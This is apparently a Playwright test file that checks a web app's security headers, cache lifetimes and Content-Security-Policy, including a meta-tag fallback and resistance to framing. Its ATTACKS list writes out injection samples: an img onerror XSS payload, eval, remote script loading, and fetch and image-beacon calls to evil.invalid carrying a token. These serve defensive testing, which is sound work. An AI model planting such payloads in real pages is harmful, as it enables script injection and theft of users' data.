import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from '@playwright/test'
import { metaPolicy, securityHeaders } from '../../src/build/security-headers.ts'
import { devices, expect, sites, test } from './support/test.ts'

const deployment = () => ({ api: process.env.E2E_API ?? '' })

test('every answer of the site carries its headers, and each its own time to live', async ({ page }) => {
  const documentAnswer = await page.request.get(`${sites.standalone()}/settings/devices`)
  const html = await documentAnswer.text()
  const asset = await page.request.get(sites.standalone() + (/\/assets\/[^"]+\.js/.exec(html)?.[0] ?? ''))
  const icon = await page.request.get(`${sites.standalone()}/favicon.svg`)
  for (const answer of [documentAnswer, asset, icon]) {
    expect(answer.status()).toBe(200)
    for (const [name, value] of Object.entries(securityHeaders(deployment())))
      expect(answer.headers()[name.toLowerCase()], name).toBe(value)
  }
  expect(documentAnswer.headers()['cache-control']).toBe('no-store')
  expect(asset.headers()['cache-control']).toBe('public, max-age=31536000, immutable')
  expect(icon.headers()['cache-control']).toBe('public, max-age=86400')
})

test.describe('for a host that sets no headers', () => {
  test.use({ signedInAt: 'noHeaders' })

  test('the document carries the policy too', async ({ page, cloud }) => {
    await page.goto(`${sites.noHeaders()}/settings/devices`)
    await expect(devices(page).rows).toHaveCount(4)
    const meta = page.locator('meta[http-equiv="Content-Security-Policy"]')
    await expect(meta).toHaveAttribute('content', metaPolicy(deployment()))
    expect(cloud.requests()).toEqual(['GET /sessions'])
  })
})

/** What code that got into the page might do, and the directive that stops it. */
const ATTACKS: [what: string, directive: RegExp, attack: () => unknown][] = [
  [
    'an inline script',
    /^(script-src|require-trusted-types-for)/,
    () => {
      const script = document.createElement('script')
      script.append('window.attacked = true')
      document.body.append(script)
    },
  ],
  [
    'eval',
    /^(script-src|require-trusted-types-for)/,
    () => {
      // biome-ignore lint/security/noGlobalEval: to see it refused
      setTimeout(() => eval('window.attacked = true'))
    },
  ],
  [
    'markup from text',
    /^require-trusted-types-for/,
    () => {
      setTimeout(() => {
        document.body.innerHTML = '<img src=x onerror="window.attacked = true">'
      })
    },
  ],
  [
    'a script from elsewhere',
    /^(script-src|require-trusted-types-for)/,
    () => {
      setTimeout(() => {
        document.body.append(
          Object.assign(document.createElement('script'), { src: 'https://evil.invalid/x.js' }),
        )
      })
    },
  ],
  [
    'a request elsewhere',
    /^connect-src/,
    () => {
      fetch('https://evil.invalid/').catch(() => {})
    },
  ],
  [
    'a picture from elsewhere',
    /^img-src/,
    () => {
      new Image().src = 'https://evil.invalid/?token'
    },
  ],
  [
    'a frame',
    /^(frame-src|default-src)/,
    () => {
      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.invalid/' }))
    },
  ],
  [
    'an inline style',
    /^style-src/,
    () => {
      const style = document.createElement('style')
      style.append('body { display: none }')
      document.body.append(style)
    },
  ],
]

/** The directives that were broken, as the page itself hears of them. */
async function violationsOf(page: Page, attack: () => unknown): Promise<string[]> {
  await page.evaluate(() => {
    const seen: string[] = []
    Object.assign(window, { seen })
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => seen.push(effectiveDirective))
  })
  await page.evaluate(attack)
  const seen = () => page.evaluate(() => Reflect.get(window, 'seen') as string[])
  await expect.poll(async () => (await seen()).length).toBeGreaterThan(0)
  expect(await page.evaluate(() => Reflect.get(window, 'attacked'))).toBeUndefined()
  return seen()
}

for (const site of ['standalone', 'noHeaders'] as const) {
  test.describe(`the policy stops (${site})`, () => {
    test.use({ signedInAt: site, expectViolations: true, expectFailedRequests: true })

    for (const [what, directive, attack] of ATTACKS) {
      test(`${what} (${site})`, async ({ page }) => {
        await page.goto(`${sites[site]()}/settings/devices`)
        await expect(devices(page).rows).toHaveCount(4)
        expect((await violationsOf(page, attack))[0]).toMatch(directive)
      })
    }

    test(`another page from showing it in a frame (${site})`, async ({ page, cloud }) => {
      const framing = createServer((_request, response) => {
        response.setHeader('Content-Type', 'text/html')
        response.end(`<!doctype html><iframe src="${sites[site]()}/settings/devices"></iframe>`)
      })
      await new Promise<void>((resolve) => framing.listen(0, '127.0.0.1', resolve))
      await page.goto(`http://127.0.0.1:${(framing.address() as AddressInfo).port}/`)
      const frame = page.frameLocator('iframe')
      if (site === 'noHeaders') await expect(frame.getByText('not shown inside other pages')).toBeVisible()
      await expect(frame.getByRole('heading')).toHaveCount(0)
      expect(cloud.requests()).toEqual([])
      framing.closeAllConnections()
      framing.close()
    })
  })
}
